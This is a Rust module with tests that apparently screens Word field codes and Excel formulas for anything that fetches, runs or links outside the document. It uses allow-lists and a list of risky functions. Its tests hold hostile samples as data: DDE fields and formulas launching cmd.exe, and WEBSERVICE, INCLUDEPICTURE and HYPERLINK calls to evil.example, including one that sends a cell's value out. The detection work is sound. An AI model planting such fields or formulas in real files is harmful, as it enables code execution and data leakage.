//! What acts by itself when a document is opened: fields of Word that fetch or run something, formulas of Excel that
//! do. Decides on the text of each; reads no packages. Refuses by name: a field that is not known to be harmless is none
//! of ours.

/// Fields that a template of the house may hold: page numbers, and the day.
const IN_TEMPLATES: [&str; 4] = ["PAGE", "NUMPAGES", "SECTIONPAGES", "DATE"];

/// Fields that reports hold and that neither fetch nor run anything.
const HARMLESS: [&str; 66] = [
    "=",
    "ADDIN",
    "ADVANCE",
    "AUTHOR",
    "AUTONUM",
    "AUTONUMLGL",
    "AUTONUMOUT",
    "BARCODE",
    "BIBLIOGRAPHY",
    "BIDIOUTLINE",
    "CITATION",
    "COMMENTS",
    "COMPARE",
    "CREATEDATE",
    "DATE",
    "DISPLAYBARCODE",
    "DOCPROPERTY",
    "DOCVARIABLE",
    "EDITTIME",
    "EQ",
    "FILENAME",
    "FILESIZE",
    "FORMCHECKBOX",
    "FORMDROPDOWN",
    "FORMTEXT",
    "IF",
    "INDEX",
    "INFO",
    "KEYWORDS",
    "LASTSAVEDBY",
    "LISTNUM",
    "MERGEFIELD",
    "MERGEREC",
    "MERGESEQ",
    "NEXT",
    "NOTEREF",
    "NUMCHARS",
    "NUMPAGES",
    "NUMWORDS",
    "PAGE",
    "PAGEREF",
    "PRINTDATE",
    "REF",
    "REVNUM",
    "SAVEDATE",
    "SECTION",
    "SECTIONPAGES",
    "SEQ",
    "SET",
    "STYLEREF",
    "SUBJECT",
    "SYMBOL",
    "TA",
    "TC",
    "TEMPLATE",
    "TIME",
    "TITLE",
    "TOA",
    "TOC",
    "USERADDRESS",
    "USERINITIALS",
    "USERNAME",
    "XE",
    "SHAPE",
    "HYPERLINK",
    "GOTOBUTTON",
];

/// May a field with this code stand in a document? `template`: in one that the house delivers again and again.
/// `composed`: other fields stand in the code, before its result.
pub fn field_is_harmless(code: &str, template: bool, composed: bool) -> bool {
    let code = code.trim();
    let name: String = if code.starts_with('=') {
        "=".to_owned()
    } else {
        code.chars().take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\\' | '“')).collect()
    };
    if name.is_empty() {
        // Whose name comes of another field, that field says what it is.
        return code.is_empty() && !composed;
    }
    let name = name.to_ascii_uppercase();
    if template {
        return IN_TEMPLATES.contains(&name.as_str());
    }
    HARMLESS.contains(&name.as_str()) && (name != "HYPERLINK" || leads_to_a_page(code.get(9..).unwrap_or_default()))
}

/// Where a HYPERLINK leads: a page, a mail or a place in the document; never a file of this or another machine.
fn leads_to_a_page(rest: &str) -> bool {
    let rest = rest.trim().to_ascii_lowercase();
    let target = rest.trim_start_matches(['"', '“', ' ']);
    rest.is_empty()
        || rest.starts_with("\\l")
        || ["http://", "https://", "mailto:", "#", "_"].iter().any(|start| target.starts_with(start))
}

/// Functions of Excel that fetch or run something, without `(`.
const CALLS: [&str; 8] = ["WEBSERVICE", "IMAGE", "RTD", "CALL", "REGISTER", "REGISTER.ID", "EXEC", "SQL.REQUEST"];

/// Does a formula fetch or run something: one of those functions, or DDE (`program|topic!item`)?
pub fn formula_acts(formula: &str) -> bool {
    let (mut word, mut quoted) = (String::new(), None);
    for c in formula.chars() {
        match (quoted, c) {
            (Some(end), _) if c == end => quoted = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quoted = Some(c),
            (None, '|') => return true,
            (None, '(') => {
                let name = word.to_ascii_uppercase();
                if CALLS.iter().any(|call| name == *call || name.ends_with(&format!("_XLFN.{call}"))) {
                    return true;
                }
            }
            _ => {}
        }
        if quoted.is_none() && (c.is_alphanumeric() || matches!(c, '.' | '_')) {
            word.push(c);
        } else if !c.is_whitespace() {
            word.clear();
        }
    }
    false
}

/// Does a formula refer to another workbook or another machine: `'\\\\server\\[x.xlsx]a'!A1`, `[1]a!A1`, an address? Columns
/// of a table (`Table1[[#All],[col]]`, `[@col]`) and names of this workbook (`[0]!name`) stay in it.
pub fn formula_leads_out(formula: &str) -> bool {
    let small = formula.to_lowercase();
    if ["\\\\", "file:", "http"].iter().any(|start| small.contains(start)) {
        return true;
    }
    let (mut text, mut sheet, mut deep, mut inside) = (false, None::<bool>, 0_usize, String::new());
    let mut signs = small.chars().peekable();
    while let Some(c) = signs.next() {
        match (c, sheet) {
            ('"', None) if deep == 0 => text = !text,
            _ if text => {}
            // The name of a sheet with its workbook: `'[x.xlsx]a'!`.
            ('\'', Some(_)) if signs.peek() == Some(&'\'') => {
                signs.next();
            }
            ('\'', Some(book)) => {
                sheet = None;
                if book && signs.peek() == Some(&'!') {
                    return true;
                }
            }
            (_, Some(book)) => sheet = Some(book || c == '['),
            ('\'', None) if deep == 0 => sheet = Some(false),
            // In the name of a column it only says that the next sign is meant.
            ('\'', None) => {
                signs.next();
            }
            ('[', None) => {
                deep += 1;
                inside.clear();
            }
            (']', None) if deep > 0 => {
                deep -= 1;
                let named = signs.peek().is_some_and(|n| n.is_alphanumeric() || matches!(n, '_' | '.' | '!' | '\''));
                if deep == 0 && named && inside != "0" {
                    return true;
                }
            }
            _ if deep > 0 => inside.push(c),
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_that_fetch_or_run_are_none_of_ours() {
        let safe = |code: &str| field_is_harmless(code, false, false);
        for code in [
            " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ",
            "dde excel x y",
            "INCLUDEPICTURE \"http://evil.example/p.png\" \\d",
            " INCLUDETEXT \"\\\\\\\\evil\\\\s\\\\t.docx\"",
            "LINK Excel.Sheet.12 x",
            "MACROBUTTON Run 点这里",
            "QUOTE 68 68 69",
            "IMPORT x",
            "HYPERLINK \"file:///C:/x.exe\"",
            "HYPERLINK \\\\evil\\s",
            "\"DDE\"",
        ] {
            assert!(!safe(code), "{code}");
            assert!(!field_is_harmless(code, true, false), "{code}");
        }
        for code in
            [" PAGE  \\* MERGEFORMAT ", "toc \\o \"1-3\" \\h", "= 1 + 2", "HYPERLINK \\l \"_Toc1\"", "", "REF a \\h"]
        {
            assert!(safe(code), "{code}");
        }
        assert!(safe("HYPERLINK \"https://www.example.org\""));
        assert!(field_is_harmless(" NUMPAGES ", true, false) && !field_is_harmless("REF a", true, false));
        assert!(!field_is_harmless("", false, true), "a name made by another field");
    }

    #[test]
    fn formulas_that_fetch_or_run() {
        for formula in [
            "cmd|'/c calc'!A0",
            "1+_xlfn.WEBSERVICE(\"http://evil.example\")",
            "webservice (A1)",
            "_xlfn.IMAGE(\"http://evil.example/p.png\")",
            "CALL(\"x\",\"y\")",
            "MSEXCEL|'x'!''",
        ] {
            assert!(formula_acts(formula), "{formula}");
        }
        for formula in [
            "SUM(A1:A3)",
            "IF(A1=\"a|b\",1,2)",
            "'表|一'!A1",
            "\"WEBSERVICE(\"&A1",
            "MYCALL(1)",
            "HYPERLINK(A1,\"看\")",
        ] {
            assert!(!formula_acts(formula), "{formula}");
        }
    }

    #[test]
    fn formulas_that_lead_out_of_the_workbook() {
        for formula in [
            "'\\\\evil\\s\\[x.xlsx]a'!A1",
            "'file:///c:/s/[x.xlsx]a'!A1",
            "'C:\\表\\[x.xlsx]a'!A1+1",
            "SUM('[x.xlsx]一''二'!A1:A3)",
            "[x.xlsx]a!A1",
            "SUM([1]一月!A1,2)",
            "[1]!总数",
            "HYPERLINK(\"http://evil.example/?\"&A1)",
        ] {
            assert!(formula_leads_out(formula), "{formula}");
        }
        for formula in [
            "SUM(Table1[col])",
            "Table1[[#All],[col]]*2",
            "SUM(表1[[#This Row],[一月]:[三月]])",
            "[@col]-[@[col 2]]",
            "Table1['[甲'] 数]",
            "Table1[a] Table1[b]",
            "[0]!总数",
            "'一月 [草]'",
            "IF(A1=\"[1]a!\",1,2)",
            "'一月 表'!A1&\"'\"",
        ] {
            assert!(!formula_leads_out(formula), "{formula}");
        }
    }
}
